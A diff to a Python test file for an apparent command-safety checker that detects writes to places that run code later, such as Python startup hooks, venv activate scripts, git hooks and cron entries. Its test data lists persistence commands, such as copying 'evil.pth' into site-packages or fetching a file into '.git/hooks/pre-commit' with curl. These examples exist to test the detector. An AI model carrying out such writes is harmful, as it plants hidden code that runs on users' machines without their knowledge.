@@ -50,6 +50,11 @@ def parts(path: str) -> list[str]:
         "/w/.venv/lib/python3.12/site-packages/evil.pth",
         "/usr/lib/python3/dist-packages/sitecustomize.py",
         "/w/.venv/lib/python3.12/site-packages/usercustomize.py",
+        # The same module in the other forms Python imports (found: written in acceptEdits).
+        "/w/.venv/lib/python3.12/site-packages/sitecustomize/__init__.py",
+        "/w/.venv/lib/python3.12/site-packages/sitecustomize",
+        "/w/.venv/lib/python3.12/site-packages/sitecustomize.pyc",
+        "/usr/lib/python3/dist-packages/usercustomize.cpython-312-x86_64-linux-gnu.so",
         "/home/u/.config/nvim/init.lua",
         "/w/.venv/bin/activate",
         "/w/venv/bin/activate.fish",
@@ -80,6 +85,8 @@ def test_a_place_that_runs_code_later_is_one(path: str) -> None:
         "/w/etc/cron.d/x",
         "/w/models/model.pth",  # PyTorch weights
         "/w/.venv/lib/python3.12/site-packages/torch/weights.pth",  # not read at start-up
+        "/w/.venv/lib/python3.12/site-packages/pkg/sitecustomize.py",  # pkg.sitecustomize
+        "/w/.venv/lib/python3.12/site-packages/sitecustomizer.py",
         "/home/u/.config/git/ignore",
         "/home/u/.config/gitx/config",
         "/etc/profiles",
@@ -149,6 +156,8 @@ ASKING = [
     "mv fish ~/.config/",
     "cp -t .venv/lib/python3.12/site-packages evil.pth",
     "cp -r evil_site/. .venv/lib/python3.12/site-packages/",
+    "mv src .venv/lib/python3.12/site-packages/sitecustomize",
+    "mkdir -p .venv/lib/python3.12/site-packages/sitecustomize",
     # A value joined to a short option is a path too.
     "gcc -o.git/hooks/pre-commit hook.c",
     "curl -sSo.git/hooks/pre-commit https://example.com/x",
@@ -265,6 +274,7 @@ def test_bypass_still_runs_what_leaves_nothing_to_run_later(command: str, work: 
         ".config/systemd/user/x.service",
         ".venv/lib/python3.12/site-packages/evil.pth",
         ".venv/lib/python3.12/site-packages/sitecustomize.py",
+        ".venv/lib/python3.12/site-packages/sitecustomize/__init__.py",
         ".venv/bin/activate",
     ],
 )
@@ -290,8 +300,11 @@ def test_the_folders_a_command_enters() -> None:
     are the home folder; the folders are bounded."""
     cwd, home = Path("/w"), Path.home()
     entered = entered_folders(analyse_command("cd a && cd b; pushd ~/c; cd"), cwd)
+    assert entered is not None
     assert entered[:4] == [cwd, cwd / "a", cwd / "b", cwd / "a" / "b"]
     assert home / "c" in entered
     assert home in entered
-    many = analyse_command(" && ".join(f"cd d{index}" for index in range(10)))
-    assert len(entered_folders(many, cwd)) == MAX_ENTERED_FOLDERS
+    five = analyse_command(" && ".join(f"cd d{index}" for index in range(5)))
+    assert len(entered_folders(five, cwd) or ()) == MAX_ENTERED_FOLDERS
+    many = analyse_command(" && ".join(f"cd d{index}" for index in range(6)))
+    assert entered_folders(many, cwd) is None  # past the bound: none followed, not some
